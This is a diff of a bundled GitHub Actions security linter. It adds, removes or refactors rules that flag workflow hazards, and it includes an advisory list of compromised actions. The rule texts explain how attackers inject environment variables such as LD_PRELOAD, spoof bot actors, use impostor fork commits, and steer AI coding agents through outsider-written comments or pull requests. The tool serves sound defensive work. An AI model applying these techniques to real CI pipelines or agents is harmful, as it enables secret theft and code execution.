-        message: `\`${leaf.path}\` is written into \`${input2}\` of ${facts.repository}, the agent's instructions: ${verdict2.reason}. Whoever writes it can steer the agent (${aggravation(facts)})`,
-        severity,
-        confidence,
-        persona: outsider ? "regular" : "pedantic",
-        related: related(facts)
-      });
-    }
-    const triggers = scopeTriggers(file);
-    const outsiderTriggers = (triggers ?? []).filter((trigger) => triggerInfo(trigger)?.outsiderCanFire);
-    if (!file.workflow || outsiderTriggers.length === 0) return;
-    for (const job of file.workflow.jobs) {
-      for (const step of job.steps) {
-        if (reportedSteps.has(step)) continue;
-        const facts = factsOf(step, job);
-        if (!facts || !step.uses) continue;
-        const prompts = facts.agent.promptInputs.filter((name) => name !== "claude_args" && name !== "codex-args" && name !== "codex_args").map((name) => withValue(step, name)).filter((value) => value !== null);
-        const promptFile = withValue(step, "prompt-file") ?? withValue(step, "prompt_file");
-        const usesSpan = step.uses.valueSpan;
-        const tagMode = facts.agent.tagMode;
-        const triggerText = outsiderTriggers.map((t) => `\`${t}\``).join(", ");
-        if (prompts.length === 0 && !promptFile && facts.open && tagMode && facts.openSpan) {
-          report({
-            span: facts.openSpan,
-            message: `${facts.repository} takes its instructions from the triggering comment, issue or pull request, and ${facts.openWhy} (${triggerText}): anyone can instruct the agent (${facts.tools !== "none" ? facts.toolsWhy : "no tools"})`,
-            severity: facts.tools === "none" ? "low" : "high",
-            confidence: "medium",
-            related: facts.toolsSpan ? [{ span: facts.toolsSpan, message: `The agent's tools: ${facts.toolsWhy}` }] : []
-          });
-          continue;
-        }
-        if (facts.tools === "none") continue;
-        const reading = prompts.find((value) => READS_EVENT_TEXT.test(value.text)) ?? promptFile ?? (facts.open ? prompts[0] : void 0);
-        if (!reading) continue;
-        report({
-          span: usesSpan,
-          message: `${facts.repository} runs under ${triggerText} with ${reading === promptFile ? "a prompt file assembled by the job" : "a prompt about the event"}: text an outsider writes in ${OUTSIDER_TRIGGERS_NOTE} may reach the model (${aggravation(facts)}); check that the agent's tools and token cannot do harm`,
-          severity: "medium",
-          confidence: "low",
-          persona: "auditor",
-          related: [{ span: reading.entry.valueSpan, message: "The prompt" }, ...related(facts)]
         });
       }
     }
@@ -14546,6 +14028,7 @@ var githubEnv = {
   severity: "high",
   confidence: "low",
   persona: "regular",
+  online: false,
   docs: {
     summary: "A `run:` step (bash, sh, pwsh or cmd) or `actions/github-script` writes computed text to `GITHUB_ENV` or `GITHUB_PATH` in a workflow that outsiders can trigger with privileges (`pull_request_target`, `workflow_run`, `issue_comment`, `issues`, `discussion*`) or in a composite action.",
     why: "Every line of `GITHUB_ENV` becomes an environment variable of the later steps, and every line of `GITHUB_PATH` a directory searched first for commands. If an attacker chooses part of that text (a branch name with a newline, an artifact or file from a pull request), they set `LD_PRELOAD`, `NODE_OPTIONS` or `BASH_ENV`, or put their directory in front of `PATH`, and run code with the job's secrets. GitHub disabled `::set-env::` in 2020 (CVE-2020-15228) for this reason; the environment files inherited the risk.",
@@ -14582,10 +14065,7 @@ var githubEnv = {
       const ctx = contextFor(file, script.step, script.job, script.script.text);
       for (const write of writesOf(script.script, ctx)) emit({ target: write.target, span: spanOf2(script, write.word), taint: write.taint }, "This step");
     }
-    const steps = [];
-    if (file.workflow) for (const job of file.workflow.jobs) for (const step of job.steps) steps.push({ step, job });
-    if (file.action) for (const step of file.action.steps) steps.push({ step, job: null });
-    for (const { step, job } of steps) {
+    for (const { step, job } of allSteps(file)) {
       const uses = scalarText(step.uses?.value ?? null);
       if (!uses) continue;
       const reference = parseUses(uses);
@@ -14625,241 +14105,68 @@ function spanOf2(script, word) {
   return script.sourceSpan(word.span);
 }
 
-// server/src/rules/bot-conditions.ts
-var LOGIN_PATHS = /* @__PURE__ */ new Set(["github.actor", "github.triggering_actor", "github.event.sender.login", "github.event.pull_request.sender.login"]);
-var ID_PATHS = /* @__PURE__ */ new Set(["github.actor_id", "github.triggering_actor_id", "github.event.sender.id", "github.event.pull_request.sender.id"]);
-var BOT_IDS = /* @__PURE__ */ new Set(["49699333", "27856297", "29139614", "29110"]);
-var AUTHOR_FIELDS = {
-  pull_request: { login: "github.event.pull_request.user.login", id: "github.event.pull_request.user.id" },
-  pull_request_target: { login: "github.event.pull_request.user.login", id: "github.event.pull_request.user.id" },
-  pull_request_review: { login: "github.event.pull_request.user.login", id: "github.event.pull_request.user.id" },
-  pull_request_review_comment: { login: "github.event.pull_request.user.login", id: "github.event.pull_request.user.id" },
-  issues: { login: "github.event.issue.user.login", id: "github.event.issue.user.id" }
-};
-function unwrap2(node) {
-  while (node.type === "group") node = node.expr;
-  return node;
+// server/src/rules/hardcoded-container-credentials.ts
+function checkCredentials(ctx, where, node, doc) {
+  const container = asMap(node);
+  if (!container) return;
+  const credentials = new MapView(asMap(new MapView(container, doc).get("credentials")?.value ?? null), doc);
+  const password = spannedString(credentials.get("password")?.value ?? null);
+  if (!password || password.value.trim() === "" || password.value.includes("${{")) return;
+  ctx.report({
+    span: password.span,
+    message: `${where} has a registry password written in the workflow: anyone who can read the repository can use it. Use \`\${{ secrets.… }}\``
+  });
 }
-function actorPath(node) {
-  const inner = unwrap2(node);
-  const path = contextPath(inner, { caseInsensitive: true });
-  if (!path) return null;
-  if (LOGIN_PATHS.has(path)) return { path, kind: "login", node: inner };
-  if (ID_PATHS.has(path)) return { path, kind: "id", node: inner };
-  return null;
-}
-function isBotLiteral(node, kind) {
-  const inner = unwrap2(node);
-  if (inner.type !== "literal") return null;
-  if (kind === "login") return inner.kind === "string" && /\[bot\]$/i.test(String(inner.value).trim()) ? String(inner.value) : null;
-  return (inner.kind === "number" || inner.kind === "string") && BOT_IDS.has(String(inner.value).trim()) ? String(inner.value) : null;
-}
-function matchOf(node) {
-  if (node.type === "binary" && node.op === "==") {
-    for (const [a, b] of [
-      [node.left, node.right],
-      [node.right, node.left]
-    ]) {
-      const actor = actorPath(a);
-      const bot = actor ? isBotLiteral(b, actor.kind) : null;
-      if (actor && bot) return { node, actor, bot };
-    }
-    return null;
-  }
-  if (node.type === "call" && node.args.length === 2) {
-    const name = node.name.toLowerCase();
-    if (name === "endswith" || name === "startswith") {
-      const actor = actorPath(node.args[0]);
-      const literal = unwrap2(node.args[1]);
-      if (actor?.kind === "login" && literal.type === "literal" && literal.kind === "string" && /bot/i.test(String(literal.value))) return { node, actor, bot: String(literal.value) };
-    }
-    if (name === "contains") {
-      const actor = actorPath(node.args[1]);
-      if (!actor) return null;
-      let bot = null;
-      walkExpression(node.args[0], (inner) => {
-        if (inner.type === "literal" && (inner.kind === "string" || inner.kind === "number")) {
-          const value = String(inner.value);
-          if (actor.kind === "login" && /\[bot\]/i.test(value) || actor.kind === "id" && [...BOT_IDS].some((id) => value.includes(id))) bot = value;
-        }
-      });
-      if (bot) return { node, actor, bot };
-    }
-  }
-  return null;
-}
-var botConditions = {
-  id: "bot-conditions",
-  title: "Condition trusts the actor because it is a bot",
+var hardcodedContainerCredentials = {
+  id: "hardcoded-container-credentials",
+  title: "Container registry password written in the workflow",
   kinds: ["workflow"],
   severity: "high",
   confidence: "high",
   persona: "regular",
+  online: false,
   docs: {
-    summary: "An `if:` compares `github.actor`, `github.triggering_actor` or `github.event.sender.login` (or their ids) with a bot such as `dependabot[bot]` to decide that a run is trustworthy.",
-    why: "`github.actor` is whoever caused the latest event, not who wrote the pull request. On `pull_request_target` an attacker can open a pull request and get Dependabot to act on it (for example by having it update a branch of their fork), so the latest event's actor is `dependabot[bot]` and the step meant for Dependabot's own pull requests (auto-merge, secrets, a write token) runs for the attacker's code.",
-    fix: "Check who opened the pull request instead: `github.event.pull_request.user.login == 'dependabot[bot]'` (the quick fix does this when the workflow has a single pull request or issue trigger), and for Dependabot use `dependabot/fetch-metadata`."
+    summary: "`container.credentials.password` or `services.<id>.credentials.password` is a literal instead of a secret.",
+    why: "Workflow files are readable by everyone who can read the repository, its forks and its history; a registry password committed there is published. Rotating it after the fact does not remove it from forks or clones.",
+    fix: "Store the password as an encrypted secret (or use `${{ github.token }}` for GHCR) and reference it: `password: ${{ secrets.REGISTRY_PASSWORD }}`. Then rotate the exposed password."
   },
-  check({ file, report }) {
-    if (!file.workflow) return;
-    const triggers = scopeTriggers(file);
-    const outsider = triggers ? triggers.filter((trigger) => triggerInfo(trigger)?.outsiderCanFire) : [];
-    const single = triggers && triggers.length === 1 ? AUTHOR_FIELDS[triggers[0]] : void 0;
-    for (const expression of evaluatedExpressions(file)) {
-      if (!expression.isCondition || !/actor|sender/i.test(expression.text)) continue;
-      const ast = expression.parsed.ast;
-      if (!ast) continue;
-      const matches2 = [];
-      walkExpression(ast, (node) => {
-        const match = matchOf(node);
-        if (match) {
-          matches2.push(match);
-          return false;
-        }
-        return void 0;
-      });
-      if (matches2.length === 0) continue;
-      const parents = /* @__PURE__ */ new Map();
-      walkExpression(ast, (node, parent) => {
-        parents.set(node, parent);
-      });
-      for (const match of matches2) {
-        let dominating = true;
-        let negated = false;
-        for (let up = parents.get(match.node) ?? null; up; up = parents.get(up) ?? null) {
-          if (up.type === "unary") negated = !negated;
-          else if (up.type === "binary" && up.op === "||") continue;
-          else if (up.type !== "group") dominating = false;
-        }
-        if (negated) continue;
-        const actorText = match.actor.path;
-        let fixes = [];
-        if (single && expression.exact) {
-          const replacement = match.actor.kind === "login" ? single.login : single.id;
-          fixes = [
-            {
-              title: `Compare the author, \`${replacement}\`, instead of \`${actorText}\``,
-              isPreferred: true,
-              safety: "safe",
-              edits: [{ span: { start: match.actor.node.start, end: match.actor.node.end }, newText: replacement }]
-            }
-          ];
-        }
-        const severity = triggers === null ? "medium" : outsider.length > 0 ? "high" : "low";
-        const why = outsider.length > 0 ? `on ${outsider.map((t) => `\`${t}\``).join(", ")} an attacker can make a bot the actor of an event on their own ${outsider.some((t) => t.startsWith("pull_request") || t === "workflow_run") ? "pull request" : "issue or pull request"}` : triggers === null ? "the caller's event decides who the actor is" : "the actor is whoever caused the latest event, not who wrote the code";
-        report({
-          span: { start: match.node.start, end: match.node.end },
-          message: `\`${actorText}\` is checked against \`${match.bot}\`: ${why}, so this condition ${dominating ? "passes" : "can pass"} for their code${single ? `; compare \`${match.actor.kind === "login" ? single.login : single.id}\` instead` : ""}`,
-          severity,
-          confidence: dominating ? "high" : "medium",
-          persona: severity === "low" ? "pedantic" : "regular",
-          fixes
-        });
-      }
+  check(ctx) {
+    const workflow = ctx.file.workflow;
+    if (!workflow) return;
+    for (const job of workflow.jobs) {
+      checkCredentials(ctx, `The container of job \`${job.id}\``, job.container?.value ?? null, job.doc);
+      for (const service of job.services.entries) checkCredentials(ctx, `Service \`${service.key}\` of job \`${job.id}\``, service.value, job.doc);
     }
   }
 };
 
-// server/src/config/pin-policy.ts
-function pinPolicyFor(config, reference) {
-  const policies = config.policies;
-  if (!policies || typeof policies !== "object" || Array.isArray(policies)) return "hash-pin";
-  const table = policies;
-  const owner = reference.owner.toLowerCase();
-  const repo = reference.repo.toLowerCase();
-  const candidates = [
-    ...reference.subpath ? [`${owner}/${repo}/${reference.subpath.toLowerCase()}`] : [],
-    `${owner}/${repo}`,
-    `${owner}/*`,
-    "*"
-  ];
-  const lowered = new Map(Object.entries(table).map(([pattern, policy]) => [pattern.toLowerCase(), policy]));
-  for (const candidate of candidates) {
-    const policy = lowered.get(candidate);
-    if (policy === "any" || policy === "ref-pin" || policy === "hash-pin") return policy;
-  }
-  return "hash-pin";
+// server/src/rules/support/resolved-uses.ts
+function refOrValueSpan(site, uses) {
+  return site.exact ? { start: site.valueStart + uses.refStart, end: site.valueStart + uses.refEnd } : site.entry.valueSpan;
 }
-function pinAllowed(config, reference) {
-  const policy = pinPolicyFor(config, reference);
-  if (policy === "any") return true;
-  if (policy === "ref-pin") return reference.ref !== null && reference.ref !== "" && reference.refKind !== "expression";
-  return false;
-}
-
-// server/src/rules/unpinned-uses.ts
-var unpinnedUses = {
-  id: "unpinned-uses",
-  title: "Action or reusable workflow not pinned to a commit SHA",
-  kinds: ["workflow", "action"],
-  severity: "high",
-  confidence: "high",
-  persona: "regular",
-  docs: {
-    summary: "A remote `uses:` names a tag or branch, which its owner (or an attacker who takes over the repository) can move to other code at any time.",
-    why: "In March 2025 every tag of `tj-actions/changed-files` (CVE-2025-30066) was moved to a commit that dumped the runner's memory into the build log, exposing the secrets of thousands of repositories; it came in through `reviewdog/action-setup@v1`, whose tag had been moved too (CVE-2025-30154). In 2026 the tags of `aquasecurity/trivy-action` were force-pushed the same way. Only a full commit SHA is immutable.",
-    fix: "Pin to the full 40-character commit SHA and keep the version in a comment, e.g. `uses: actions/checkout@<sha> # v4.2.2`, so updaters such as Dependabot and Renovate keep it current."
-  },
-  check({ file, config, report }) {
-    const snapshot = snapshotOf(file);
-    for (const site of file.uses) {
-      const reference = site.reference;
-      if (reference.kind !== "remote") continue;
-      const target = usesTarget(reference);
-      const what = reference.isReusableWorkflow ? "reusable workflow" : "action";
-      if (reference.refKind === "sha") continue;
-      if (pinAllowed(config, reference)) continue;
-      const plan = snapshot && reference.refKind !== "expression" ? planPin(file, site, snapshot) : null;
-      const fixes = plan?.ok ? [plan.fix] : [];
-      const span = site.exact ? { start: site.valueStart + reference.refStart, end: site.valueStart + reference.refEnd } : site.entry.valueSpan;
-      if (reference.ref === null || reference.ref === "") {
-        report({
-          span: site.exact ? { start: site.valueStart, end: site.valueStart + site.value.length } : site.entry.valueSpan,
-          message: `\`${target}\` has no ref: name a full commit SHA, e.g. \`${target}@<40-hex sha> # vX.Y.Z\``
-        });
-        continue;
-      }
-      switch (reference.refKind) {
-        case "short-sha":
-          report({
-            span,
-            message: `\`${target}@${reference.ref}\` uses an abbreviated SHA, which is not a pin: an attacker can push a colliding commit. Use the full 40-character SHA`,
-            fixes
-          });
-          break;
-        case "expression":
-          report({ span, message: `${what} \`${target}\` takes its ref from an expression, which cannot be pinned`, confidence: "medium" });
-          break;
-        case "branch-like":
-          report({
-            span,
-            message: `${what} \`${target}\` is pinned to \`${reference.ref}\`, a branch or tag that can move to other code: pin it to a full commit SHA`,
-            fixes
-          });
-          break;
-        default:
-          report({
-            span,
-            message: `${what} \`${target}\` is pinned to tag \`${reference.ref}\`, which can be moved to other code: pin it to a full commit SHA`,
-            fixes
-          });
-      }
-    }
+function resolvedUses(sites, snapshot, which) {
+  const found = [];
+  for (const site of sites) {
+    const uses = resolvableRemote(site);
+    if (!uses) continue;
+    if (which === "sha-pins" ? uses.refKind !== "sha" : uses.refKind === "sha" || uses.refKind === "short-sha") continue;
+    const refs = refsFor(snapshot, uses);
+    if (refs?.ok) found.push({ site, uses, refs: refs.value });
   }
-};
+  return found;
+}
 
 // server/src/rules/impostor-commit.ts
-function checkImpostorCommit({ file, report }, snapshot) {
-  if (!snapshot || snapshot.offline) return;
+function checkImpostorCommit({ file, online, report }) {
+  if (!online.available) return;
+  const snapshot = online.value;
   for (const site of file.uses) {
     const uses = resolvableRemote(site);
     if (!uses || uses.refKind !== "sha") continue;
     const membership = membershipFor(snapshot, uses);
     if (membership?.status !== "impostor") continue;
-    const start = site.exact ? site.valueStart + uses.refStart : site.entry.valueSpan.start;
-    const end = site.exact ? site.valueStart + uses.refEnd : site.entry.valueSpan.end;
     report({
-      span: { start, end },
+      span: refOrValueSpan(site, uses),
       message: `Commit ${uses.ref} is not on any branch or tag of ${uses.repository} (compared with ${membership.checked} refs): it comes from a fork, and \`${usesTarget(uses)}\` runs the fork's code`
     });
   }
@@ -14871,31 +14178,855 @@ var impostorCommit = {
   severity: "high",
   confidence: "high",
   persona: "regular",
+  online: true,
   docs: {
     summary: "A `uses:` pinned to a commit that no branch or tag of the named repository contains: a commit pushed to a fork, which GitHub serves under the parent's name (online check).",
     why: `GitHub stores a repository and all its forks in one object network, so \`owner/repo@<sha>\` resolves even when the commit only exists in somebody's fork. Anyone can fork an action, push malicious code and propose a "pin to SHA" change that looks like a hardening PR: the SHA looks legitimate but runs the fork's code (Chainguard's "impostor commits" research, 2023). A SHA pin is only as good as the proof that it is in the upstream history.`,
     fix: "Re-pin to the commit of a release tag of the real repository (use the pin quick fix on the tag), and find out where the SHA came from."
   },
-  check(context) {
-    checkImpostorCommit(context, snapshotOf(context.file));
+  check: checkImpostorCommit
+};
+
+// server/src/rules/insecure-commands.ts
+var NAME = "ACTIONS_ALLOW_UNSECURE_COMMANDS";
+function envMaps(file) {
+  const maps = [];
+  const workflow = file.workflow;
+  if (workflow) {
+    maps.push(workflow.env);
+    for (const job of workflow.jobs) {
+      maps.push(job.env);
+      for (const step of job.steps) maps.push(step.env);
+    }
+  }
+  if (file.action) for (const step of file.action.steps) maps.push(step.env);
+  return maps;
+}
+function removeEntry(file, env, index) {
+  const lines = file.lines;
+  const entry = env.entries[index];
+  if (env.map?.flow) return null;
+  const startLine = lines.lineAt(entry.keySpan.start);
+  if (lines.lineText(startLine).slice(0, entry.keySpan.start - lines.lineStarts[startLine]).trim() !== "") return null;
+  const endLine = lines.lineAt(Math.max(entry.keySpan.end, entry.valueSpan.end - 1));
+  const end = endLine + 1 < lines.lineCount ? lines.lineStarts[endLine + 1] : file.text.length;
+  return { span: { start: lines.lineStarts[startLine], end }, newText: "" };
+}
+var insecureCommands = {
+  id: "insecure-commands",
+  title: "Deprecated workflow commands re-enabled",
+  kinds: ["workflow", "action"],
+  severity: "high",
+  confidence: "high",
+  persona: "regular",
+  online: false,
+  docs: {
+    summary: "`ACTIONS_ALLOW_UNSECURE_COMMANDS` turns the `::set-env::` and `::add-path::` log commands back on, so anything a step prints can set environment variables of later steps.",
+    why: "GitHub disabled these commands in 2020 (CVE-2020-15228) because any text a step prints — a pull request title echoed by a test, a dependency's output — could set `LD_PRELOAD`, `NODE_OPTIONS` or `PATH` for the following steps and take over the job.",
+    fix: "Remove the variable and write to the `$GITHUB_ENV` and `$GITHUB_PATH` files instead. The quick fix removes the entry."
+  },
+  check({ file, report }) {
+    for (const env of envMaps(file)) {
+      env.entries.forEach((entry, index) => {
+        if (entry.key.toUpperCase() !== NAME) return;
+        const value = (scalarText(entry.value) ?? "").trim().toLowerCase();
+        if (value === "false" || value === "0" || value === "") return;
+        const edit = removeEntry(file, env, index);
+        report({
+          span: entry.keySpan,
+          message: `\`${NAME}: ${value}\` lets any text printed by a step set environment variables and PATH for the following steps`,
+          confidence: value.includes("${{") ? "medium" : "high",
+          fixes: edit ? [{ title: `Remove \`${NAME}\``, isPreferred: true, safety: "unsafe", edits: [edit] }] : []
+        });
+      });
+    }
+  }
+};
+
+// server/src/knowledge/advisories.ts
+var ADVISORIES = [
+  {
+    repository: "tj-actions/changed-files",
+    ghsa: "GHSA-mrrh-fwg8-r2c3",
+    cve: "CVE-2025-30066",
+    severity: "high",
+    kind: "compromise",
+    summary: "its tags (v1 to v45.0.7) were moved on March 14–15, 2025 to a malicious commit that printed the runner's secrets into the build log",
+    // GHSA: affected <= 45.0.7, patched 46.0.1; CVE record: versions 1 to < 46.
+    ranges: [{ fixed: "46" }],
+    badCommits: ["0e58ed8671d6b60d0890c21b07f8835ace038e67"],
+    patchedTag: "v46.0.1",
+    source: "https://github.com/advisories/GHSA-mrrh-fwg8-r2c3",
+    references: [
+      "https://raw.githubusercontent.com/github/advisory-database/bcdd7ff351551f7df4f41eecad6de58eca891ed8/advisories/github-reviewed/2025/03/GHSA-mrrh-fwg8-r2c3/GHSA-mrrh-fwg8-r2c3.json",
+      "https://raw.githubusercontent.com/CVEProject/cvelistV5/main/cves/2025/30xxx/CVE-2025-30066.json",
+      "https://www.cisa.gov/news-events/alerts/2025/03/18/supply-chain-compromise-third-party-github-action-cve-2025-30066"
+    ]
+  },
+  {
+    repository: "tj-actions/changed-files",
+    ghsa: "GHSA-mcph-m25j-8j63",
+    cve: "CVE-2023-51664",
+    severity: "high",
+    kind: "vulnerability",
+    summary: "changed file names were returned unescaped, so a file name with shell metacharacters injects commands into a `run:` that uses the output",
+    ranges: [{ fixed: "41" }],
+    patchedTag: "v41",
+    source: "https://github.com/tj-actions/changed-files/security/advisories/GHSA-mcph-m25j-8j63",
+    references: [
+      "https://raw.githubusercontent.com/CVEProject/cvelistV5/main/cves/2023/51xxx/CVE-2023-51664.json",
+      "https://github.com/sisaku-security/sisakulint/blob/main/docs/advisory/GHSA-mcph-m25j-8j63.md"
+    ]
+  },
+  {
+    repository: "reviewdog/action-setup",
+    ghsa: "GHSA-qmg3-hpqr-gqvc",
+    cve: "CVE-2025-30154",
+    severity: "high",
+    kind: "compromise",
+    summary: "its `v1` tag was moved for a while in March 2025 to a malicious commit that leaked the runner's secrets",
+    ranges: [],
+    badCommits: ["f0d342d24037bb11d26b9bd8496e0808ba32e9ec"],
+    source: "https://raw.githubusercontent.com/CVEProject/cvelistV5/main/cves/2025/30xxx/CVE-2025-30154.json",
+    references: [
+      "https://github.com/advisories/GHSA-qmg3-hpqr-gqvc",
+      "https://www.cisa.gov/news-events/alerts/2025/03/18/supply-chain-compromise-third-party-github-action-cve-2025-30066"
+    ]
+  },
+  {
+    repository: "aquasecurity/trivy-action",
+    ghsa: "GHSA-69fq-xp46-6x23",
+    cve: "CVE-2026-33634",
+    severity: "high",
+    kind: "compromise",
+    summary: "76 of its 77 tags (every one before 0.35.0) were force-pushed on March 19–20, 2026 to a credential stealer",
+    ranges: [{ fixed: "0.35.0" }],
+    badCommits: ["ddb9da4475c1cef7d5389062bdfdfbdbd1394648"],
+    patchedTag: "0.35.0",
+    source: "https://github.com/aquasecurity/trivy/security/advisories/GHSA-69fq-xp46-6x23",
+    references: [
+      "https://raw.githubusercontent.com/github/advisory-database/bcdd7ff351551f7df4f41eecad6de58eca891ed8/advisories/github-reviewed/2026/03/GHSA-69fq-xp46-6x23/GHSA-69fq-xp46-6x23.json",
+      "https://github.com/aquasecurity/trivy-action/issues/541"
+    ]
+  },
+  {
+    repository: "aquasecurity/setup-trivy",
+    ghsa: "GHSA-69fq-xp46-6x23",
+    cve: "CVE-2026-33634",
+    severity: "high",
+    kind: "compromise",
+    summary: "all 7 of its tags were replaced on March 19, 2026 with malicious commits",
+    ranges: [{ fixed: "0.2.6" }],
+    patchedTag: "v0.2.6",
+    source: "https://github.com/aquasecurity/trivy/security/advisories/GHSA-69fq-xp46-6x23",
+    references: [
+      "https://github.com/github/gh-aw-firewall/issues/1384",
+      "https://github.com/pact-foundation/pact-broker-docker/pull/329"
+    ]
+  },
+  {
+    repository: "actions/download-artifact",
+    ghsa: "GHSA-cxww-7g56-2vh6",
+    cve: "CVE-2024-42471",
+    severity: "high",
+    kind: "vulnerability",
+    summary: "a crafted artifact could write files outside the destination directory when extracted (path traversal)",
+    ranges: [{ introduced: "4.0.0", fixed: "4.1.3" }],
+    patchedTag: "v4.1.3",
+    source: "https://github.com/sisaku-security/sisakulint/blob/main/docs/advisory/GHSA-cxww-7g56-2vh6.md",
+    references: ["https://github.com/advisories/GHSA-cxww-7g56-2vh6"]
+  },
+  {
+    repository: "dawidd6/action-download-artifact",
+    ghsa: "GHSA-5xr6-xhww-33m4",
+    severity: "high",
+    kind: "vulnerability",
+    summary: "artifacts of fork runs were searched by default (`allow_forks`), so a fork could poison what a privileged workflow downloads",
+    ranges: [{ fixed: "6" }],
+    patchedTag: "v6",
+    source: "https://github.com/sisaku-security/sisakulint/blob/main/docs/advisory/GHSA-5xr6-xhww-33m4.md",
+    references: ["https://github.com/advisories/GHSA-5xr6-xhww-33m4"]
+  },
+  {
+    repository: "lycheeverse/lychee-action",
+    ghsa: "GHSA-65rg-554r-9j5x",
+    cve: "CVE-2024-48908",
+    severity: "medium",
+    kind: "vulnerability",
+    summary: "an expression in its `lycheeVersion` input was interpolated into the composite action's shell script (code injection)",
+    // GHSA: <= 2.0.1, patched 2.0.2.
+    ranges: [{ fixed: "2.0.2" }],
+    patchedTag: "v2.0.2",
+    source: "https://github.com/sisaku-security/sisakulint/blob/main/docs/advisory/GHSA-65rg-554r-9j5x.md",
+    references: ["https://github.com/advisories/GHSA-65rg-554r-9j5x"]
+  },
+  {
+    repository: "atlassian/gajira-create",
+    ghsa: "GHSA-4xqx-pqpj-9fqw",
+    cve: "CVE-2020-14188",
+    severity: "high",
+    kind: "vulnerability",
+    summary: "a crafted GitHub issue made the action execute arbitrary code on the runner",
+    ranges: [{ fixed: "2.0.1" }],
+    patchedTag: "v2.0.1",
+    source: "https://github.com/advisories/GHSA-4xqx-pqpj-9fqw",
+    references: ["https://raw.githubusercontent.com/CVEProject/cvelistV5/main/cves/2020/14xxx/CVE-2020-14188.json"]
+  },
+  {
+    repository: "check-spelling/check-spelling",
+    ghsa: "GHSA-g86g-chm8-7r2p",
+    cve: "CVE-2021-32724",
+    severity: "high",
+    kind: "vulnerability",
+    summary: "on `pull_request_target` or `schedule`, a crafted pull request could expose the `GITHUB_TOKEN`",
+    ranges: [{ fixed: "0.0.19" }],
+    patchedTag: "v0.0.19",
+    source: "https://github.com/advisories/GHSA-g86g-chm8-7r2p",
+    references: ["https://raw.githubusercontent.com/CVEProject/cvelistV5/main/cves/2021/32xxx/CVE-2021-32724.json"]
+  },
+  {
+    repository: "gradle/gradle-build-action",
+    ghsa: "GHSA-h3qr-39j9-4r5v",
+    cve: "CVE-2023-30853",
+    severity: "high",
+    kind: "vulnerability",
+    summary: "with the configuration cache enabled, secrets passed in environment variables could be saved into a GitHub Actions cache entry readable by untrusted workflows",
+    ranges: [{ fixed: "2.4.2" }],
+    patchedTag: "v2.4.2",
+    source: "https://github.com/gradle/gradle-build-action/security/advisories/GHSA-h3qr-39j9-4r5v",
+    references: ["https://github.com/sisaku-security/sisakulint/blob/main/docs/advisory/GHSA-h3qr-39j9-4r5v.md"]
+  },
+  {
+    repository: "rlespinasse/github-slug-action",
+    ghsa: "GHSA-6q4m-7476-932w",
+    cve: "CVE-2023-27581",
+    severity: "high",
+    kind: "vulnerability",
+    summary: "`github.head_ref` was substituted into its shell script, so a crafted branch name injects commands",
+    // The maintainers' advisory: "Patched action is available on tag v4, tag v4.4.1, and any tag beyond."
+    // Only the v4 series is matched: the advisory's lower bound for v3 was not confirmed.
+    ranges: [{ introduced: "4.0.0", fixed: "4.4.1" }],
+    patchedTag: "v4.4.1",
+    source: "https://github.com/rlespinasse/github-slug-action/security/advisories/GHSA-6q4m-7476-932w",
+    references: ["https://github.com/sisaku-security/sisakulint/blob/main/docs/advisory/GHSA-6q4m-7476-932w.md"]
+  },
+  {
+    repository: "tj-actions/branch-names",
+    ghsa: "GHSA-8v8w-v8xg-79rf",
+    cve: "CVE-2023-49291",
+    severity: "high",
+    kind: "vulnerability",
+    summary: "the branch name was substituted into its shell script, so a crafted branch name injects commands",
+    ranges: [{ fixed: "7.0.7" }],
+    patchedTag: "v7.0.7",
+    source: "https://github.com/advisories/GHSA-8v8w-v8xg-79rf",
+    references: [
+      "https://raw.githubusercontent.com/CVEProject/cvelistV5/main/cves/2023/49xxx/CVE-2023-49291.json",
+      "https://github.com/sisaku-security/sisakulint/blob/main/docs/advisory/GHSA-8v8w-v8xg-79rf.md"
+    ]
+  },
+  {
+    repository: "tj-actions/branch-names",
+    ghsa: "GHSA-gq52-6phf-x2r6",
+    cve: "CVE-2025-54416",
+    severity: "high",
+    kind: "vulnerability",
+    summary: 'command injection through branch names (CVE title: "tj-actions/branch-names Contains Command Injection Vulnerability")',
+    ranges: [{ lastAffected: "8.2.1" }],
+    patchedTag: "v9.0.0",
+    source: "https://raw.githubusercontent.com/CVEProject/cvelistV5/main/cves/2025/54xxx/CVE-2025-54416.json",
+    references: ["https://github.com/sisaku-security/sisakulint/blob/main/docs/advisory/GHSA-8v8w-v8xg-79rf.md"],
+    unverified: "the range (<= 8.2.1, fixed in 9.0.0) and the mechanism were read only in a third-party summary, not in the advisory or the CVE record"
+  },
+  {
+    repository: "tj-actions/verify-changed-files",
+    ghsa: "GHSA-ghm2-rq8q-wrhc",
+    cve: "CVE-2023-52137",
+    severity: "high",
+    kind: "vulnerability",
+    summary: "changed file names were returned unescaped, so a file name with shell metacharacters injects commands into a `run:` that uses the output",
+    ranges: [{ fixed: "17" }],
+    patchedTag: "v17",
+    source: "https://github.com/bash-lsp/bash-language-server/pull/1074",
+    references: [
+      "https://github.com/sisaku-security/sisakulint/blob/main/docs/advisory/GHSA-ghm2-rq8q-wrhc.md",
+      "https://github.com/tj-actions/depcheck/pull/144"
+    ]
+  }
+];
+var byRepository = /* @__PURE__ */ new Map();
+for (const advisory of ADVISORIES) {
+  if (advisory.unverified) continue;
+  const list = byRepository.get(advisory.repository) ?? [];
+  list.push(advisory);
+  byRepository.set(advisory.repository, list);
+}
+function advisoriesFor2(repository) {
+  return byRepository.get(repository.toLowerCase()) ?? [];
+}
+
+// server/src/resolve/versions.ts
+var VERSION_RE2 = /^(v?)(\d+)(?:\.(\d+))?(?:\.(\d+))?(?:-([0-9A-Za-z.-]+))?$/;
+function parseVersion(text) {
+  const match = VERSION_RE2.exec(text);
+  if (!match) return null;
+  const parts = [match[2], match[3], match[4]].filter((part) => part !== void 0).map(Number);
+  return { text, prefix: match[1] === "v" ? "v" : "", parts, prerelease: match[5] ?? null };
+}
+function isFullVersion(version2) {
+  return version2 !== null && version2.parts.length === 3;
+}
+function compareVersionsDesc(a, b) {
+  if (!a || !b) return Number(a === null) - Number(b === null);
+  for (let i = 0; i < 3; i++) {
+    const diff = (b.parts[i] ?? -1) - (a.parts[i] ?? -1);
+    if (diff !== 0) return diff;
+  }
+  if (a.prerelease !== b.prerelease) {
+    if (a.prerelease === null) return -1;
+    if (b.prerelease === null) return 1;
+    return a.prerelease < b.prerelease ? 1 : -1;
+  }
+  return 0;
+}
+function tagsAt(refs, commit) {
